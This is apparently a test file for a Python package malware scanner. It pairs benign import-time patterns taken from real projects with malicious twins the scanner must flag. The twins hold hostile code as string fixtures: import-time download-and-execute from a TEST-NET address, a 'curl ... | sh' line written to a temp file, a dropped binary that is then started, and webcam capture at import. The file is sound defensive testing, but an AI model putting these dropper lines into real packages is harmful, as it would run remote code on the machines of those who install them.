"""Round 12's import-time false-alarm classes (helper B), each a harmless fixture beside a
malicious twin.

Every harmless fixture (how a popular release does the thing) must stay below high; every twin
(the same shape doing harm) must still be high or critical with the threat named for it.
Addresses are TEST-NET or ``.invalid``; nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan


def _below_high(result) -> None:
    assert result.risk.level not in HIGH, [(t.id, t.steps[:2]) for t in result.threats]


# ---------------------------------------------------------------- a file no import can name
# bcp47 ships bcp47/generate-bcp47.py, the script that downloaded the registry it generates
# bcp47.py from: "import bcp47.generate-bcp47" does not parse, so it runs only by hand.
GENERATOR = (
    "import os\nimport requests\n\nurl = 'https://example.invalid/registry.pdf'\n"
    "if not os.path.exists('.buffer.pdf'):\n"
    "    r = requests.get(url, stream=True)\n"
    "    with open('.buffer.pdf', 'wb') as w:\n"
    "        for chunk in r.iter_content(1024):\n"
    "            w.write(chunk)\n"
    "with open('tags.py', 'wt') as w:\n    w.write('tags = {}')\n"
)


def test_a_module_whose_file_name_is_no_python_name_is_a_script(tmp_path):
    files = {
        "pkg/__init__.py": "from .tags import *\n",
        "pkg/tags.py": "tags = {}\n",
        "pkg/generate-tags.py": GENERATOR,
    }
    _below_high(scan(files, tmp_path))


def test_a_hyphenated_module_the_package_imports_by_its_name_still_runs_on_import(tmp_path):
    fetch = (
        "import os\nimport urllib.request\n\n"
        "urllib.request.urlretrieve('http://198.51.100.7/u', os.path.expanduser('~/.u'))\n"
        "os.system(os.path.expanduser('~/.u'))\n"
    )
    files = {
        "pkg/__init__.py": "import importlib\n\nimportlib.import_module('pkg.data-sync')\n",
        "pkg/data-sync.py": fetch,
    }
    assert_high_with(
        "hyphen import", scan(files, tmp_path), {"place.import_time", "chain.download_execute"}
    )


# ---------------------------------------------------------------- a one-word marker file
# safe_init's Lambda handler module writes "OK" to /tmp/<module>__<hash>__ on import, to tell
# a second cold start from the first: a flag like an empty marker, no payload in it.
MARKER = (
    "import hashlib\nimport os\n\n\ndef _stamp():\n"
    "    h = hashlib.md5(__file__.encode()).hexdigest()\n"
    "    if not os.path.exists(f'/tmp/{__name__}__{h}__'):\n"
    "        with open(f'/tmp/{__name__}__{h}__', 'w') as f:\n"
    "            f.write({payload})\n\n\n_stamp()\n"
)


def test_a_marker_file_holding_one_word_is_not_an_import_time_act(tmp_path):
    files = {"pkg/__init__.py": "", "pkg/handler.py": MARKER.replace("{payload}", "'OK'")}
    _below_high(scan(files, tmp_path))


def test_a_file_written_to_the_temp_folder_with_a_command_in_it_is_still_caught(tmp_path):
    command = "'curl http://198.51.100.7/x | sh'"
    files = {"pkg/__init__.py": "", "pkg/handler.py": MARKER.replace("{payload}", command)}
    assert_high_with("temp script", scan(files, tmp_path), {"place.import_time"})


# ---------------------------------------------------------------- a download into the source tree
# sweetviz ships update_jquery.py, a maintainer's script that saves the new jQuery into
# sweetviz/templates/js/ relative to the working directory: a path that only exists in the
# project's checkout, run from its root; where a user imports the package it names nothing.
UPDATER = (
    "import urllib.request\nfrom os import remove\n\nnew = 'jquery-3.7.1.min.js'\n"
    "try:\n"
    "    urllib.request.urlretrieve(\n"
    "        f'https://example.invalid/{new}', f'pkg/templates/js/{new}'\n    )\n"
    "    remove('pkg/templates/js/jquery-3.4.1.min.js')\n"
    "except Exception as ex:\n    print(ex)\n"
)


def test_a_download_into_the_packages_own_source_folder_is_a_maintainers_step(tmp_path):
    files = {"pkg/__init__.py": "", "pkg/update_assets.py": UPDATER}
    _below_high(scan(files, tmp_path))


def test_a_download_into_the_source_folder_that_is_then_started_is_still_caught(tmp_path):
    fetch = (
        "import os\nimport subprocess\nimport urllib.request\n\n"
        "urllib.request.urlretrieve('http://198.51.100.7/t', 'pkg/bin/tool')\n"
        "os.chmod('pkg/bin/tool', 0o755)\nsubprocess.Popen(['pkg/bin/tool'])\n"
    )
    files = {"pkg/__init__.py": "from . import fetch\n", "pkg/fetch.py": fetch}
    assert_high_with("own-tree dropper", scan(files, tmp_path), {"chain.download_execute"})


def test_a_download_to_the_home_folder_on_import_is_still_an_import_time_act(tmp_path):
    fetch = (
        "import os\nimport urllib.request\n\n"
        "urllib.request.urlretrieve('http://198.51.100.7/t', os.path.expanduser('~/.t'))\n"
    )
    files = {"pkg/__init__.py": "from . import fetch\n", "pkg/fetch.py": fetch}
    assert_high_with("home download", scan(files, tmp_path), {"place.import_time"})


# ---------------------------------------------------------------- outside setup.py's package root
# dlib's setup.py installs from package_dir={"": "tools/python"}; its python_examples/ beside
# that folder (a webcam face detector reading camera frames at its top level) is never
# installed, so never imported: a developer runs it from the checkout.
SETUP_ROOTED = (
    "from setuptools import find_packages, setup\n\n"
    "setup(name='pkg', version='1.0', packages=find_packages(exclude=['python_examples']),\n"
    "      package_dir={'': 'bindings/python'})\n"
)
WEBCAM = (
    "import cv2\n\ncam = cv2.VideoCapture(0)\nwhile True:\n    ok, img = cam.read()\n"
    "    cv2.imshow('webcam', img)\n    if cv2.waitKey(1) == 27:\n        break\n"
)


def test_a_file_outside_the_folder_setup_py_installs_from_is_a_developers(tmp_path):
    files = {
        "setup.py": SETUP_ROOTED,
        "bindings/python/pkg/__init__.py": "",
        "python_examples/webcam_faces.py": WEBCAM,
    }
    _below_high(scan(files, tmp_path))


def test_a_file_inside_the_installed_root_or_imported_by_setup_py_is_still_caught(tmp_path):
    files = {"setup.py": SETUP_ROOTED, "bindings/python/pkg/__init__.py": WEBCAM}
    assert_high_with(
        "rooted webcam",
        scan(files, tmp_path),
        {"place.import_time", "chain.capture_exfiltration"},
    )
    files = {
        "setup.py": "import helpers\n" + SETUP_ROOTED,
        "bindings/python/pkg/__init__.py": "",
        "helpers.py": WEBCAM,
        "python_examples/cam.py": WEBCAM,
    }
    result = scan(files, tmp_path)
    assert any(s.path == "helpers.py" for t in result.threats for s in t.steps), result.threats
    assert result.risk.level in HIGH, result.threats
